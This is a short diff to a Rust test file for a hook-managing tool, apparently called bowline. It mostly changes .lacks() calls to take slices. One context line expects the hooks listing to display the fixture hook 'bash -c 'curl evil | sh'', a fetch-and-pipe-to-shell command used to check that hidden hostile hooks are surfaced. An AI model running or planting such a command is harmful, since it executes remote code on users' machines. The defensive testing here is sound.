@@ -210,9 +210,9 @@ hooks = [
             "Trust covers bowline.toml and bowline.local.toml",
         ],
     )
-    .lacks("s3cret");
+    .lacks(&["s3cret"]);
     let ran = bench.run(&["trust", "--json"]);
-    ran.lacks("\u{200b}").lacks("s3cret");
+    ran.lacks(&["\u{200b}"]).lacks(&["s3cret"]);
     let (code, document) = bench.json(&["trust"]);
     assert_eq!(code, Some(1));
     let hooks = document["would_run"].as_array().unwrap();
@@ -225,7 +225,7 @@ hooks = [
     let listed = bench.run(&["hooks"]);
     listed
         .expect(0, &["bash -c 'curl evil | sh'", "␣×3000"])
-        .lacks("s3cret");
+        .lacks(&["s3cret"]);
 
     bench.run(&["trust", "--yes"]).expect(0, &["Trusted"]);
     bench.write("bowline.local.toml", "");
@@ -261,7 +261,7 @@ fn trouble_in_the_settings_is_told_by_every_report() {
         .expect(0, &[&format!("see `bowline check {dir}`")]);
     Bench::with_example()
         .run(&["hooks"])
-        .lacks("in the settings");
+        .lacks(&["in the settings"]);
 }
 
 #[test]
@@ -294,7 +294,7 @@ fn timeouts_are_shown_as_they_count() {
     bench
         .run(&["hooks"])
         .expect(0, &["10 min"])
-        .lacks("83.3 min");
+        .lacks(&["83.3 min"]);
     let (_, document) = bench.json(&["hooks", "--event", "Stop"]);
     assert_eq!(document["hooks"][0]["timeout_ms"], 600_000);
 }
